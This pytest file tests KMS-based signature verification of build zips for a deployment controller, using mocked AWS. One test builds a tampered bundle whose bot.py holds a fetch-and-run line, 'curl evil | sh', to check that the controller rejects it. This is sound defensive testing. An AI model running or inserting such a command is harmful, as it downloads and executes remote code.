"""Signed builds (issue 10) on moto: the CI signs the zip's SHA-256 with a KMS key, the signature rides
on the S3 object as `x-amz-meta-bluegreen-signature`, and the controller verifies it from the same
GetObject that inspects the bytes. Unsigned, tampered, or signed-by-another-key builds are rejected
with `BadArtifact`."""

from __future__ import annotations

import base64
import hashlib
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import boto3
import pytest
from bluegreen.aws.artifacts import Artifacts
from bluegreen.aws.signing import (
    SIGNATURE_METADATA_KEY,
    Signatures,
    sign_artifact,
    sign_digest,
    signature_from_metadata,
    verify_signature,
)
from bluegreen.errors import BadArtifact
from bluegreen_local.bots import bundle

REGION = "us-east-1"
BUCKET = "bluegreen-artifacts-123456789012"


@pytest.fixture
def aws(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    from moto import mock_aws

    for name in ("AWS_ENDPOINT_URL", "AWS_PROFILE"):
        monkeypatch.delenv(name, raising=False)
    monkeypatch.setenv("AWS_ACCESS_KEY_ID", "testing")
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "testing")
    monkeypatch.setenv("AWS_DEFAULT_REGION", REGION)
    with mock_aws():
        session = boto3.session.Session(region_name=REGION)
        session.client("s3").create_bucket(Bucket=BUCKET)
        session.client("s3").put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
        yield session


@pytest.fixture
def kms(aws: Any) -> Any:
    return aws.client("kms")


@pytest.fixture
def key(kms: Any) -> str:
    metadata = kms.create_key(KeyUsage="SIGN_VERIFY", KeySpec="ECC_NIST_P256", Description="bluegreen CI")
    return str(metadata["KeyMetadata"]["Arn"])


def upload(aws: Any, key: str, body: bytes, signature: str | None) -> None:
    extra: dict[str, Any] = {"Metadata": {SIGNATURE_METADATA_KEY: signature}} if signature else {}
    aws.client("s3").put_object(Bucket=BUCKET, Key=key, Body=body, ChecksumAlgorithm="SHA256", **extra)


def inspected(aws: Any, key: str) -> tuple[str, str | None]:
    """(sha256, signature) as the controller sees them: one GetObject through Artifacts.inspect."""
    artifact = Artifacts(aws.client("s3")).inspect(BUCKET, key)
    assert artifact.sha256
    if "signature" in type(artifact).model_fields:
        return artifact.sha256, artifact.signature  # type: ignore[attr-defined]
    # Until models.Artifact gains `signature`, read it where inspect does: the object's metadata.
    head = aws.client("s3").head_object(Bucket=BUCKET, Key=key)
    return artifact.sha256, signature_from_metadata(head["Metadata"])


def test_a_build_signed_by_the_apps_key_is_accepted(aws: Any, kms: Any, key: str, tmp_path: Path) -> None:
    body = bundle({"bot.py": "print('signed')"})
    path = tmp_path / "build.zip"
    path.write_bytes(body)
    signature = sign_artifact(path, key, kms)
    upload(aws, "mybot/build-1.zip", body, signature)
    sha256, carried = inspected(aws, "mybot/build-1.zip")
    assert sha256 == hashlib.sha256(body).hexdigest()
    assert carried == signature
    verify_signature(kms, key, sha256, carried)
    Signatures(kms).verify(key, sha256, carried)


def test_an_unsigned_build_is_rejected_when_the_app_requires_signatures(aws: Any, kms: Any, key: str) -> None:
    upload(aws, "mybot/build-2.zip", bundle({"bot.py": "print(2)"}), None)
    sha256, carried = inspected(aws, "mybot/build-2.zip")
    assert carried is None
    with pytest.raises(BadArtifact, match=r"requires signed builds.*x-amz-meta-bluegreen-signature"):
        Signatures(kms).verify(key, sha256, carried)
    # An app without signing_key_arn accepts it, as before.
    Signatures(kms).verify(None, sha256, carried)


def test_a_tampered_build_with_a_copied_signature_is_rejected(aws: Any, kms: Any, key: str) -> None:
    genuine = bundle({"bot.py": "print('genuine')"})
    signature = sign_digest(kms, key, hashlib.sha256(genuine).hexdigest())
    # Someone with s3:PutObject (but no kms:Sign) ships other bytes under the genuine signature, and
    # a matching SHA-256 checksum: integrity holds, authenticity does not.
    tampered = bundle({"bot.py": "import os; os.system('curl evil | sh')"})
    upload(aws, "mybot/build-3.zip", tampered, signature)
    sha256, carried = inspected(aws, "mybot/build-3.zip")
    with pytest.raises(BadArtifact, match="does not verify"):
        Signatures(kms).verify(key, sha256, carried)


def test_a_build_signed_by_another_key_is_rejected(aws: Any, kms: Any, key: str) -> None:
    other = kms.create_key(KeyUsage="SIGN_VERIFY", KeySpec="ECC_NIST_P256")["KeyMetadata"]["Arn"]
    body = bundle({"bot.py": "print('other team')"})
    upload(aws, "mybot/build-4.zip", body, sign_digest(kms, other, hashlib.sha256(body).hexdigest()))
    sha256, carried = inspected(aws, "mybot/build-4.zip")
    with pytest.raises(BadArtifact, match="does not verify"):
        Signatures(kms).verify(key, sha256, carried)


@pytest.mark.parametrize("garbage", ["not base64!!", base64.b64encode(b"x" * 2000).decode()])
def test_a_malformed_signature_is_rejected_before_kms(kms: Any, key: str, garbage: str) -> None:
    with pytest.raises(BadArtifact, match="x-amz-meta-bluegreen-signature"):
        verify_signature(kms, key, hashlib.sha256(b"x").hexdigest(), garbage)


def test_an_unusable_key_is_a_clear_bad_artifact(kms: Any, key: str) -> None:
    digest = hashlib.sha256(b"x").hexdigest()
    signature = sign_digest(kms, key, digest)
    missing = key.rsplit("/", 1)[0] + "/00000000-0000-0000-0000-000000000000"
    with pytest.raises(BadArtifact, match=r"KMS key .* does not exist"):
        verify_signature(kms, missing, digest, signature)
    with pytest.raises(BadArtifact, match="not a SHA-256"):
        verify_signature(kms, key, "abc", signature)


@pytest.mark.parametrize(
    ("code", "says"),
    [
        ("DisabledException", "is disabled"),
        ("AccessDeniedException", "add its ARN to the stack's ArtifactSigningKeyArns"),
        ("InvalidKeyUsageException", "is not a SIGN_VERIFY key"),
    ],
)
def test_kms_refusals_say_what_to_fix(key: str, code: str, says: str) -> None:
    """What real KMS answers (moto does not model these): each becomes a BadArtifact that says why."""
    from botocore.exceptions import ClientError

    class Refusing:
        def verify(self, **_: Any) -> Any:
            raise ClientError({"Error": {"Code": code, "Message": "no"}}, "Verify")

    with pytest.raises(BadArtifact, match=says):
        verify_signature(Refusing(), key, hashlib.sha256(b"x").hexdigest(), base64.b64encode(b"sig").decode())


def test_kms_trouble_is_transient(key: str) -> None:
    from botocore.exceptions import ClientError

    class Throttled:
        def verify(self, **_: Any) -> Any:
            raise ClientError({"Error": {"Code": "ThrottlingException", "Message": "slow down"}}, "Verify")

    from bluegreen.errors import Transient

    with pytest.raises(Transient):
        verify_signature(Throttled(), key, hashlib.sha256(b"x").hexdigest(), base64.b64encode(b"sig").decode())
